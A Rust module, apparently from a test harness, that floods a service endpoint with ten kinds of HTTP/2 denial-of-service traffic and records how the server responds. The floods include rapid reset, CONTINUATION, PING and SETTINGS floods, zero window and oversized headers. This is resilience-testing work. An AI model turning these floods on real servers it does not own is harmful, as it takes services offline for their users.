//! The floods.

use std::collections::BTreeMap;
use std::io;
use std::thread::sleep;
use std::time::{Duration, Instant};

use weir_runtime::Endpoint;

use super::wire::{Wire, flag, header, headers, kind};

/// The call that floods begin.
const CALL: &str = "/weir.agent.v1.AgentService/Control";
/// Rounds that are written at once.
const AT_ONCE: u32 = 32;
/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const WINDOW: u16 = 4;
/// Before a connection that was closed at once is opened again.
const AGAIN: Duration = Duration::from_millis(1);

/// A way to break the rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Streams that are opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// Streams that the server has to reset, for headers without a path (RUSTSEC-2024-0003).
    ErrorReset,
    /// Headers that never end (RUSTSEC-2024-0332).
    Continuation,
    /// DATA frames without data (RUSTSEC-2026-0258).
    EmptyData,
    /// SETTINGS, each of which has to be acknowledged.
    Settings,
    /// PINGs, each of which has to be answered.
    Ping,
    /// Calls whose answers may never be sent.
    ZeroWindow,
    /// Ever more windows for a stream.
    WindowUpdate,
    /// Frames of a kind that nobody knows, and of PRIORITY.
    Unknown,
    /// Headers beyond any list, in a good frame.
    LargeHeaders,
}

/// When a flood ends: at the first of both.
#[derive(Debug, Clone, Copy)]
pub struct Limit {
    /// Frames.
    pub frames: u64,
    /// Time.
    pub time: Duration,
}

/// What came of a flood.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Flood {
    /// Frames written.
    pub frames: u64,
    /// Connections opened.
    pub connections: u64,
    /// Connections that the server closed.
    pub closed: u64,
    /// Its GOAWAYs by error code (RFC 9113 section 7).
    pub goaways: BTreeMap<u32, u64>,
    /// Writes that it did not read within a second.
    pub stalled: u64,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::ErrorReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Settings,
        Self::Ping,
        Self::ZeroWindow,
        Self::WindowUpdate,
        Self::Unknown,
        Self::LargeHeaders,
    ];

    /// Its name.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::ErrorReset => "error reset",
            Self::Continuation => "CONTINUATION",
            Self::EmptyData => "empty DATA",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::ZeroWindow => "zero window",
            Self::WindowUpdate => "WINDOW_UPDATE",
            Self::Unknown => "unknown frames",
            Self::LargeHeaders => "large headers",
        }
    }

    /// Floods until the limit; connections that the server closes are opened again.
    ///
    /// # Errors
    /// The server takes no connection any more.
    pub fn run(self, endpoint: &Endpoint, limit: Limit) -> io::Result<Flood> {
        let begun = Instant::now();
        let mut flood = Flood::default();
        let is_over = |flood: &Flood| flood.frames >= limit.frames || begun.elapsed() >= limit.time;
        while !is_over(&flood) {
            let settings: &[(u16, u32)] = match self {
                Self::ZeroWindow => &[(WINDOW, 0)],
                _ => &[],
            };
            let mut wire = connect(endpoint, settings)?;
            flood.connections += 1;
            flood.frames += u64::from(self.begin(&mut wire));
            let mut stream = 3;
            let mut has_failed = false;
            while !is_over(&flood) && wire.seen().closed.is_none() {
                for _ in 0..AT_ONCE {
                    flood.frames += u64::from(self.round(&mut wire, stream));
                    stream += 2;
                }
                match wire.flush() {
                    Ok(()) => {}
                    Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                        flood.stalled += 1;
                        break;
                    }
                    Err(_) => {
                        has_failed = true;
                        break;
                    }
                }
                if self == Self::ZeroWindow {
                    sleep(Duration::from_millis(100));
                }
            }
            flood.note(&wire, has_failed);
        }
        Ok(flood)
    }

    /// What a connection begins with: frames.
    fn begin(self, wire: &mut Wire) -> u32 {
        let block = headers(Some(CALL));
        match self {
            Self::Continuation => wire.frame(kind::HEADERS, 0, 1, &block),
            Self::EmptyData | Self::WindowUpdate => {
                wire.frame(kind::HEADERS, flag::END_HEADERS, 1, &block);
            }
            _ => return 0,
        }
        1
    }

    /// One round: frames.
    fn round(self, wire: &mut Wire, stream: u32) -> u32 {
        const CANCEL: [u8; 4] = [0, 0, 0, 8];
        match self {
            Self::RapidReset => {
                let block = headers(Some(CALL));
                wire.frame(kind::HEADERS, flag::END_HEADERS, stream, &block);
                wire.frame(kind::RST_STREAM, 0, stream, &CANCEL);
                return 2;
            }
            Self::ErrorReset => {
                let flags = flag::END_HEADERS | flag::END_STREAM;
                wire.frame(kind::HEADERS, flags, stream, &headers(None));
            }
            Self::Continuation => {
                let mut block = Vec::new();
                header(&mut block, "x", "y");
                wire.frame(kind::CONTINUATION, 0, 1, &block);
            }
            Self::EmptyData => wire.frame(kind::DATA, 0, 1, &[]),
            Self::Settings => wire.frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Ping => wire.frame(kind::PING, 0, 0, b"pingping"),
            Self::ZeroWindow => {
                let block = headers(Some(CALL));
                wire.frame(kind::HEADERS, flag::END_HEADERS, stream, &block);
            }
            Self::WindowUpdate => wire.frame(kind::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
            Self::Unknown => {
                wire.frame(kind::UNKNOWN, 0xff, 0, &[7; 64]);
                wire.frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 9]);
                return 2;
            }
            Self::LargeHeaders => {
                let mut block = headers(Some(CALL));
                for _ in 0..3 {
                    header(&mut block, "x-large", &"x".repeat(5_000));
                }
                let flags = flag::END_HEADERS | flag::END_STREAM;
                wire.frame(kind::HEADERS, flags, stream, &block);
            }
        }
        1
    }
}

impl Flood {
    fn note(&mut self, wire: &Wire, has_failed: bool) {
        // The last words may be on their way.
        sleep(AGAIN);
        let seen = wire.seen();
        // Who does not read its answers sees the end only when it writes.
        self.closed += u64::from(has_failed || seen.closed.is_some());
        if let Some(code) = seen.goaway {
            *self.goaways.entry(code).or_default() += 1;
        }
    }
}

/// Tries for a while: a server that has just closed many connections is busy.
fn connect(endpoint: &Endpoint, settings: &[(u16, u32)]) -> io::Result<Wire> {
    let begun = Instant::now();
    loop {
        match Wire::connect(endpoint, settings) {
            Err(error) if begun.elapsed() > Duration::from_secs(10) => return Err(error),
            Err(_) => sleep(AGAIN),
            wire => return wire,
        }
    }
}
